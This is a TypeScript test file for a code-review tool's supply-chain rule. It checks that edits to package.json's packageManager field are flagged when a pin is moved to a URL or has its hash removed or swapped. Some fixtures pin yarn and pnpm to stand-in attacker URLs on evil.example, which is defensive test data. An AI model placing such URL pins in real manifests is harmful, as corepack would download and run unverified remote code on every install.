import { afterAll, describe, expect, it } from 'vitest';
import { makeRepo, reviewHead } from './repo.js';

/**
 * package.json `packageManager` is the release of yarn or pnpm corepack downloads and runs for every command of the
 * install. corepack (`specUtils.parseSpec`) runs whatever a URL range names, and (`corepackUtils.installVersion`)
 * compares the download with the `+<algo>.<hex>` build part only when there is one: a pin moved to a URL, stripped of
 * its hash or given another hash for the same release is CPU026; a release update that keeps a hash is not.
 */
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

const H1 = `sha512.${'a1'.repeat(64)}`;
const H2 = `sha512.${'b2'.repeat(64)}`;
const manifest = (packageManager?: string) =>
  JSON.stringify({ name: 'app', version: '1.0.0', ...(packageManager ? { packageManager } : {}) }, null, 2) + '\n';

const cases: { name: string; from?: string; to?: string; raw?: string; want: string[] }[] = [
  {
    name: 'a release moved to a URL → CPU026',
    from: 'yarn@4.1.0',
    to: 'yarn@https://evil.example/yarn.js',
    want: ['CPU026@4'],
  },
  { name: 'a new pin that is a URL → CPU026', to: 'pnpm@https://evil.example/pnpm.tgz', want: ['CPU026@4'] },
  { name: 'the hash dropped → CPU026', from: `pnpm@9.1.0+${H1}`, to: 'pnpm@9.1.0', want: ['CPU026@4'] },
  {
    name: 'the hash dropped with a version move → CPU026',
    from: `pnpm@9.1.0+${H1}`,
    to: 'pnpm@9.1.1',
    want: ['CPU026@4'],
  },
  {
    name: 'the same release with another hash → CPU026',
    from: `pnpm@9.1.0+${H1}`,
    to: `pnpm@9.1.0+${H2}`,
    want: ['CPU026@4'],
  },
  {
    name: 'a release update keeping a hash (Renovate) → nothing',
    from: `pnpm@9.1.0+${H1}`,
    to: `pnpm@9.1.1+${H2}`,
    want: [],
  },
  { name: 'a release update with no hash on either side → nothing', from: 'yarn@4.1.0', to: 'yarn@4.1.1', want: [] },
  { name: 'a pin added with a hash → nothing', to: `pnpm@9.1.0+${H1}`, want: [] },
  { name: 'the pin removed → nothing', from: `pnpm@9.1.0+${H1}`, want: [] },
];

describe('review of a package.json packageManager change', () => {
  it.each(cases)('$name', async ({ from, to, want }) => {
    const repo = makeRepo({ 'package.json': manifest(from) }, { 'package.json': manifest(to) });
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir, { gate: 'any' });
    const got = r.findings.filter((f) => f.ruleId.startsWith('CPU')).map((f) => `${f.ruleId}@${f.location.line}`);
    expect(got).toEqual(want);
  });

  it('a package.json that no longer parses → one CPU030, not one per reader', async () => {
    const repo = makeRepo({ 'package.json': manifest(`pnpm@9.1.0+${H1}`) }, { 'package.json': '{"name": ' });
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir);
    expect(r.findings.filter((f) => f.ruleId === 'CPU030')).toHaveLength(1);
  });
});
